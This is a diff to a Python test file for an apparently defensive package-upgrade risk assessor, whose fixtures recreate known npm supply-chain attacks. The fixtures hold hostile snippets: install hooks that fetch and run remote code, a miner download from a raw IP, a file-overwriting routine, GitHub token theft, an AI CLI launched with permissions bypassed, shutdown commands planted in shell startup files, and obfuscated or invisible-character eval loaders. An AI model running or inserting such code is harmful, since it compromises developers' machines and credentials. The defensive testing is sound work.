@@ -5,7 +5,7 @@ from dataclasses import replace
 
 import pytest
 
-from tests.support.upgrades import NOW, added, binary, changed, upgrade
+from tests.support.upgrades import NOW, added_file, binary_file, changed_file, upgrade
 from worker.change import Change
 from worker.risk import assess
 
@@ -15,15 +15,15 @@ ENCODED_URL = base64.b64encode(
 ).decode()
 
 EVENT_STREAM = upgrade(
-    changed("index.js", "exports.flatmap = require('flatmap-streams')"),
-    old={"dependencies": {"through": "~2.3.1"}},
-    new={"dependencies": {"through": "~2.3.1", "flatmap-streams": "^0.1.0"}},
-    after={"publisher": "stranger"},
+    changed_file("index.js", "exports.flatmap = require('flatmap-streams')"),
+    old_manifest={"dependencies": {"through": "~2.3.1"}},
+    new_manifest={"dependencies": {"through": "~2.3.1", "flatmap-streams": "^0.1.0"}},
+    new_metadata={"publisher": "stranger"},
 )
 
 # the added dependency, one version later
 FLATMAP = upgrade(
-    changed(
+    changed_file(
         "index.min.js",
         "var Stream=require('stream').Stream;module.exports=function(e,n){var i=new Stream};"
         "!function(){try{var r=require,t=process;"
@@ -33,11 +33,11 @@ FLATMAP = upgrade(
         "var f=new module.constructor;f.paths=module.paths,f._compile(a,''),f.exports(n[1])}"
         "catch(r){}}();",
     ),
-    added("test/data.js", f"module.exports=['{'75d4c87f3f69e0fa292969072c49dff4' * 40}','x']"),
+    added_file("test/data.js", f"module.exports=['{'75d4c87f3f69e0fa292969072c49dff4' * 40}','x']"),
 )
 
 ESLINT_SCOPE = upgrade(
-    added(
+    added_file(
         "lib/build.js",
         "try{",
         "  var https=require('https');",
@@ -47,27 +47,27 @@ ESLINT_SCOPE = upgrade(
         "  }).on('error',()=>{});",
         "}catch(e){}",
     ),
-    new={"scripts": {"postinstall": "node ./lib/build.js"}},
+    new_manifest={"scripts": {"postinstall": "node ./lib/build.js"}},
 )
 
 UA_PARSER = upgrade(
-    added(
+    added_file(
         "preinstall.js",
         'const { exec } = require("child_process");',
         'exec("preinstall.bat", (error, stdout) => {});',
         'const terminal = spawn("bash", ["preinstall.sh"]);',
     ),
-    added(
+    added_file(
         "preinstall.sh",
         "IP=$(curl -k -s https://freegeo.test/xml/ | grep 'RU')",
         "curl http://159.148.186.228/download/jsextension -o jsextension",
         "chmod +x jsextension && ./jsextension -k --tls -o pool.test:443",
     ),
-    new={"scripts": {"preinstall": "start /B node preinstall.js & node preinstall.js"}},
+    new_manifest={"scripts": {"preinstall": "start /B node preinstall.js & node preinstall.js"}},
 )
 
 NODE_IPC = upgrade(
-    added(
+    added_file(
         "dao/ssl-geospec.js",
         'import u from"path";import a from"fs";import o from"https";setTimeout(function(){'
         f'const n=Buffer.from("{ENCODED_URL}","base64");'
@@ -77,13 +77,13 @@ NODE_IPC = upgrade(
         'async function h(n="",o=""){if(!a.existsSync(n)){return}for(const x of a.readdirSync(n)){'
         'try{a.writeFile(u.join(n,x),Buffer.from("4p2k77iP","base64"),function(){})}catch(t){}}}',
     ),
-    changed("node-ipc.js", 'import "./dao/ssl-geospec.js";'),
+    changed_file("node-ipc.js", 'import "./dao/ssl-geospec.js";'),
 )
 
 # as in xz: the payload is a broken archive among the tests, unpacked by a build step
 XZ = upgrade(
-    binary("tests/files/bad-3-corrupt_lzma2.xz", "archive"),
-    changed(
+    binary_file("tests/files/bad-3-corrupt_lzma2.xz", "archive"),
+    changed_file(
         "lib/native.js",
         'const packed = fs.readFileSync(path.join(root, "tests/files/bad-3-corrupt_lzma2.xz"));',
         'execFileSync("sh", ["-c", decode(packed)]);',
@@ -91,7 +91,7 @@ XZ = upgrade(
 )
 
 SHAI_HULUD = upgrade(
-    added(
+    added_file(
         "bundle.js",
         "var e={};"
         * 400
@@ -99,22 +99,24 @@ SHAI_HULUD = upgrade(
         'exec("trufflehog filesystem / --json");w(".github/workflows/shai-hulud-workflow.yml");'
         'await run("npm publish")',
     ),
-    new={"scripts": {"postinstall": "node bundle.js"}},
+    new_manifest={"scripts": {"postinstall": "node bundle.js"}},
 )
 
 # the second wave: an installer that downloads Bun, and ten megabytes that are not compared
 SHAI_HULUD_TWO = upgrade(
-    added(
+    added_file(
         "setup_bun.js",
         "const { spawnSync } = require('child_process');",
         "spawnSync('bash', ['-c', 'curl -fsSL https://bun.test/install | bash']);",
     ),
-    replace(added("bun_environment.js", "a"), size=10_000_000, complete=False, note="too large"),
-    new={"scripts": {"preinstall": "node setup_bun.js"}},
+    replace(
+        added_file("bun_environment.js", "a"), size=10_000_000, complete=False, note="too large"
+    ),
+    new_manifest={"scripts": {"preinstall": "node setup_bun.js"}},
 )
 
 CHALK_DEBUG = upgrade(
-    changed(
+    changed_file(
         "source/index.js",
         "const _0x112fa8=_0x180f;(function(_0x13c8b9,_0x35f660){const _0x15b386=_0x180f;"
         + "while(!![]){try{const _0x66ea25=parseInt(_0x15b386(0x20b))/(0xf80);}catch(e){}}" * 60
@@ -126,7 +128,7 @@ CHALK_DEBUG = upgrade(
 )
 
 SOLANA = upgrade(
-    changed(
+    changed_file(
         "lib/index.cjs.js",
         "  static fromSecretKey(secretKey, options) {",
         "    addToQueue(secretKey);",
@@ -138,29 +140,29 @@ SOLANA = upgrade(
 )
 
 NX = upgrade(
-    added(
+    added_file(
         "telemetry.js",
         "const token = spawnSync('gh', ['auth', 'token']);",
         "const cli = ['claude', '--dangerously-skip-permissions', '-p', PROMPT];",
         "for (const file of ['.bashrc', '.zshrc']) append(file, 'sudo shutdown -h 0');",
     ),
-    new={"scripts": {"postinstall": "node telemetry.js"}},
-    before={"provenance": True},
+    new_manifest={"scripts": {"postinstall": "node telemetry.js"}},
+    old_metadata={"provenance": True},
 )
 
 ESLINT_CONFIG_PRETTIER = upgrade(
-    binary("node-gyp.dll", "pe"),
-    added(
+    binary_file("node-gyp.dll", "pe"),
+    added_file(
         "install.js",
         "const cp = require('chi' + 'ld_pro' + 'cess');",
         "cp.spawn('rundll32', [path.join(__dirname, './node-gyp.dll') + ',main']);",
     ),
-    new={"scripts": {"install": "node install.js"}},
+    new_manifest={"scripts": {"install": "node install.js"}},
 )
 
 # the payload consists of characters that editors do not show
 GLASSWORM = upgrade(
-    changed(
+    changed_file(
         "index.js",
         f"const code = decode(`{''.join(chr(0xFE00 + i % 16) for i in range(300))}`);",
         "eval(code);",
@@ -168,7 +170,7 @@ GLASSWORM = upgrade(
 )
 
 RAND_USER_AGENT = upgrade(
-    changed(
+    changed_file(
         "dist/index.js",
         "module.exports = agent;" + " " * 400 + "global['r']=require;(function(){eval(a0b())})();",
         removed_lines=("module.exports = agent;",),
@@ -177,9 +179,9 @@ RAND_USER_AGENT = upgrade(
 
 # the account of a maintainer who had published from a build before
 AXIOS = upgrade(
-    old={"dependencies": {"form-data": "^4.0.0"}},
-    new={"dependencies": {"form-data": "^4.0.0", "plain-crypto": "^4.2.1"}},
-    before={"provenance": True},
+    old_manifest={"dependencies": {"form-data": "^4.0.0"}},
+    new_manifest={"dependencies": {"form-data": "^4.0.0", "plain-crypto": "^4.2.1"}},
+    old_metadata={"provenance": True},
 )
 
 ATTACKS = {
@@ -212,5 +214,5 @@ def test_an_attack_is_blocked_and_its_typical_signal_found(change: Change, signa
 def test_an_attack_is_blocked_without_its_install_script(name: str):
     """The same code could wait to be called."""
     change, _ = ATTACKS[name]
-    without_script = upgrade(*change.files, before={"provenance": change.old.provenance})
+    without_script = upgrade(*change.files, old_metadata={"provenance": change.old.provenance})
     assert assess(without_script, NOW).risk >= THRESHOLD
